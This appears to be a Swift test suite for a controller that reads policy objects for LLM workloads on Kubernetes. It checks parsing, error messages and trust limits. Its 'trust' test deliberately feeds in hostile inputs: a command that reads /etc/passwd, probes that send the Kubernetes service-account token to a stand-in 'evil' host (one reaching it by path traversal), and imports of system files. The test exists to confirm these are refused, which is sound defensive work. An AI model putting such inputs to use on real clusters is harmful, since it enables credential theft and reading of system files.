import Documents
import Policies
import TestSupport
import Testing

@testable import PolicyFiles

@Suite struct PolicyObjectTests {
    /// What the API server would hand out for a policy file.
    static func object(_ text: String, namespace: String) throws -> DocumentValue {
        let document = try #require(try YAMLDocument.parseAll(text).first).value
        let more: [DocumentValue.Member] = [
            .init(
                key: "metadata",
                value: .object([
                    .init(key: "name", value: .string(document.text("metadata", "name") ?? "")),
                    .init(key: "namespace", value: .string(namespace)),
                    .init(key: "generation", value: .integer(7)), .init(key: "uid", value: .string("u")),
                    .init(key: "annotations", value: .object([.init(key: "a/b", value: .string(""))])),
                    .init(key: "managedFields", value: .array([])),
                ])),
            .init(key: "status", value: .object([.init(key: "lastVerdict", value: .string("kept"))])),
        ]
        return .object(document.members.filter { $0.key != "metadata" } + more)
    }

    @Test("a shipped policy says the same as an object of its namespace", arguments: ShippedPolicyTests.names)
    func shipped(name: String) throws {
        let text = try RepositoryFiles.text("policies/\(name).yaml")
        var expected = try #require(parsePolicies(text, file: "f").policies.first)
        guard case .kubernetes(let target) = expected.target else { return #expect(Bool(false), "no workload") }
        let object = try Self.object(text, namespace: target.namespace)
        let read = parsePolicy(object: object, named: "\(target.namespace)/\(name)")
        #expect(read.problems == [])
        expected.name = "\(target.namespace)/\(name)"
        let found = try #require(read.policy)
        #expect(found.withoutLines == expected.withoutLines)
        #expect(read.generation == 7 && read.annotations == ["a/b": ""])
        #expect(try parsePolicy(json: Array(object.json.utf8), named: read.name).policy == found)
    }

    @Test("errors are those of a file, with the field they are about")
    func errors() throws {
        let broken = try RepositoryFiles.text("Tests/PolicyFilesTests/Files/broken.yaml")
        let inFile = parsePolicies(broken.replacing("name: chat 8b", with: "name: chat-8b"), file: "f").diagnostics.map(\.message)
        let read = parsePolicy(
            object: try Self.object(broken.replacing("name: chat 8b", with: "name: chat-8b"), namespace: "llm"), named: "llm/chat-8b")
        #expect(read.policy == nil)
        // 'no' without quotes is a text once YAML 1.2 has read it, and lines are others.
        let withoutLines = inFile.filter { !$0.contains("the first is in line") && !$0.contains("no without quotes") }
        for message in withoutLines { #expect(read.diagnostics.contains { $0.message == message }, "missing: \(message)") }
        #expect(
            read.problems.contains("spec.triggers[0].cool_down: error: unknown field 'cool_down'; did you mean 'cooldown'?"),
            "\(read.problems)")
        #expect(read.problems.contains("spec.objective.ttft.p95: error: 'p95': the duration '500' has no unit; write 500s or 500ms"))
    }

    @Test(
        "an author of policies is not trusted with what the controller may do",
        arguments: [
            (
                "target: {kubernetes: {namespace: kube-system, scaleTargetRef: {kind: Deployment, name: coredns}}}",
                "spec.target.kubernetes.namespace: error: a policy in the namespace 'llm' cannot change a workload in 'kube-system'; put it there"
            ),
            (
                "target: {command: {name: x, set: {run: [/bin/cat, /etc/passwd]}, get: {run: [/bin/cat, /etc/passwd]}}}",
                "spec.target.command: error: a policy of a cluster cannot run commands; use a file of --policies"
            ),
            (
                "monitor: {sources: [{name: a, probe: {endpoint: \"http://evil/\", provider: openai, model: m, rate: 1/s, "
                    + "keyFromFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]}",
                "where it cannot be the controller's own token"
            ),
            (
                "monitor: {sources: [{name: a, probe: {endpoint: \"http://evil/\", provider: openai, model: m, rate: 1/s, "
                    + "keyFromFile: /var/run/secrets/probe/../kubernetes.io/token}}]}", "where it cannot be the controller's own token"
            ),
            ("monitor: {sources: [{name: a, import: {paths: [../../etc/*]}}]}", "leaves the controller's folder of results"),
            ("monitor: {sources: [{name: a, import: {paths: [/etc/passwd]}}]}", "leaves the controller's folder of results"),
        ])
    func trust(spec: String, message: String) throws {
        let text = PolicyParseTests.file(spec)
        #expect(parsePolicies(text, file: "f").isValid)
        let read = parsePolicy(object: try Self.object(text, namespace: "llm"), named: "llm/chat-8b")
        #expect(read.policy == nil && read.problems.contains { $0.contains(message) }, "\(read.problems)")
    }

    @Test(
        "objects that are none are refused in words",
        arguments: [
            "{}", "[]", "null", "{\"spec\": null}", "{\"apiVersion\": 3, \"kind\": {}, \"spec\": []}",
            "{\"spec\": {\"mode\": \"a\\u0000b\"}}",
        ])
    func hostile(json: String) throws {
        let read = try parsePolicy(json: Array(json.utf8), named: "llm/x")
        #expect(read.policy == nil && !read.problems.isEmpty && read.problems.allSatisfy { $0.utf8.count < 1_000 })
    }

    @Test("texts that YAML would take for something else stay texts")
    func texts() throws {
        let spec =
            "{\"knobs\": {\"k\": {\"values\": [\"no\", \"1:30\", \"5\", 5, 5.5, true, \"a: #b\", \"é\\u2028\"], \"at\": {\"field\": \"/a\"}}}}"
        let json = "{\"apiVersion\": \"llm-devops.io/v1alpha1\", \"kind\": \"OptimizationPolicy\", \"spec\": \(spec)}"
        let policy = try #require(try parsePolicy(json: Array(json.utf8), named: "llm/x").policy)
        #expect(
            policy.knobs.first?.domain
                == .values([
                    .text("no"), .text("1:30"), .text("5"), .integer(5), .number(5.5), .flag(true), .text("a: #b"), .text("é\u{2028}"),
                ]))
    }
}

extension Policy {
    /// Without the lines of its conditions, which differ from file to object.
    fileprivate var withoutLines: Policy {
        func strip(_ condition: Condition) -> Condition {
            switch condition {
            case .leaf(var leaf):
                leaf.line = nil
                return .leaf(leaf)
            case .and(let parts): return .and(parts.map(strip))
            case .or(let parts): return .or(parts.map(strip))
            case .not(let part): return .not(strip(part))
            }
        }
        var policy = self
        for index in policy.triggers.indices { policy.triggers[index].condition = strip(policy.triggers[index].condition) }
        return policy
    }
}
